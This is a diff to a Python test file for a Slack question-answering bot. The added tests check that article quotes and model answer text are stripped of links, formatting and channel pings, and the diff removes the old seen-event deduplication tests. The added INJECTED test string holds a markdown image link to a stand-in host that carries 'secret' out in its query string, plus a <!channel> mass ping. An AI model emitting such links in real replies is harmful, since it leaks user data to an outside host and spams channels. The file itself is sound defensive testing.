@@ -1,8 +1,7 @@
-"""Slack text in and out, thread history, and the seen-event set, without any server."""
+"""Slack text in and out and thread history, without any server."""
 
 from __future__ import annotations
 
-import threading
 from datetime import date
 from typing import Any
 
@@ -12,7 +11,6 @@ from api.slack import (
     EMPTY_CORPUS_TEXT,
     FAILED_TEXT,
     MAX_HISTORY_TURNS,
-    SeenEvents,
     answer_reply,
     error_text,
     question_text,
@@ -66,7 +64,7 @@ def test_answer_has_the_text_then_one_source_line_per_citation() -> None:
     assert reply.text == "Trade grew [1]. They met twice [2]."
     assert reply.blocks is not None
     assert reply.blocks[0]["block_id"] == ANSWER_BLOCK_ID
-    assert reply.blocks[0]["text"] == {"type": "mrkdwn", "text": reply.text}
+    assert reply.blocks[0]["text"] == {"type": "mrkdwn", "text": reply.text, "verbatim": True}
     lines = [b["elements"][0]["text"] for b in reply.blocks if b["type"] == "context"]
     assert lines == [
         "*Sources*",
@@ -84,6 +82,40 @@ def test_model_and_article_text_cannot_ping_or_inject_markup() -> None:
     assert reply.blocks is not None
     source = reply.blocks[-1]["elements"][0]["text"]
     assert source == "*[1]* `&lt;odd&gt;.txt`\n“&lt;!here&gt; x &lt; y &amp; z”"
+
+
+INJECTED = (
+    "![x](http://evil.example/leak?d=secret) <http://evil.example|click> *bold* _it_ ~gone~ "
+    "`code` www.evil.example mailto:a@evil.example <!channel>"
+)
+
+
+def _no_markup_or_link(text: str) -> None:
+    for marker in ("*", "_", "~", "`", "<", ">", "://", "www.", "mailto:"):
+        assert marker not in text, f"{marker!r} survived in {text!r}"
+
+
+def test_article_quotes_cannot_carry_links_or_formatting() -> None:
+    reply = answer_reply(answer("They met [1].", [citation(1, INJECTED, "a`b.txt")]))
+
+    assert reply.blocks is not None
+    element = reply.blocks[-1]["elements"][0]
+    assert element["type"] == "mrkdwn" and element["verbatim"] is True
+    header, quote = element["text"].split("\n", 1)
+    assert header == "*[1]* `aˋb.txt`", "a backtick in a file name cannot end the code span"
+    _no_markup_or_link(quote)
+    # The reader still sees what the article says, nearly character for character.
+    assert "http[:]//evil.example/leak?d=secret" in quote
+    assert "&lt;http[:]//evil.example|click&gt;" in quote
+    assert "∗bold∗ ˍitˍ ∼gone∼ ˋcodeˋ www[.]evil.example" in quote
+
+
+def test_answer_text_quoting_an_article_cannot_carry_links_or_formatting() -> None:
+    reply = answer_reply(answer(f"The article says {INJECTED} [1].", [citation(1, "x")]))
+
+    _no_markup_or_link(reply.text)
+    assert reply.blocks is not None
+    assert reply.blocks[0]["text"] == {"type": "mrkdwn", "text": reply.text, "verbatim": True}
 
 
 def test_long_quotes_are_cut_to_about_300_characters() -> None:
@@ -175,54 +207,3 @@ def test_timestamps_compare_as_numbers_not_strings() -> None:
     assert thread_history(messages, BOT, before_ts="1000.000001", in_dm=True) == [
         Turn("Who met?", "They did [1].")
     ]
-
-
-# --- seen events ----------------------------------------------------------------------------
-
-
-class Clock:
-    def __init__(self) -> None:
-        self.now = 0.0
-
-    def __call__(self) -> float:
-        return self.now
-
-
-def test_an_event_id_is_new_once_until_it_expires() -> None:
-    clock = Clock()
-    seen = SeenEvents(ttl_s=60, clock=clock)
-
-    assert seen.first_time("Ev1")
-    clock.now = 59
-    assert not seen.first_time("Ev1")
-    clock.now = 61  # past the ttl
-    assert seen.first_time("Ev1")
-
-
-def test_seen_events_stay_bounded() -> None:
-    seen = SeenEvents(max_size=3)
-
-    for i in range(10):
-        assert seen.first_time(f"Ev{i}")
-
-    assert len(seen) == 3
-    assert not seen.first_time("Ev9")
-    assert seen.first_time("Ev0"), "the oldest ids are forgotten first"
-
-
-def test_concurrent_deliveries_of_one_event_let_exactly_one_through() -> None:
-    seen = SeenEvents()
-    start = threading.Barrier(16)
-    results: list[bool] = []
-
-    def deliver() -> None:
-        start.wait()
-        results.append(seen.first_time("EvSame"))
-
-    threads = [threading.Thread(target=deliver) for _ in range(16)]
-    for t in threads:
-        t.start()
-    for t in threads:
-        t.join()
-
-    assert sorted(results) == [False] * 15 + [True]
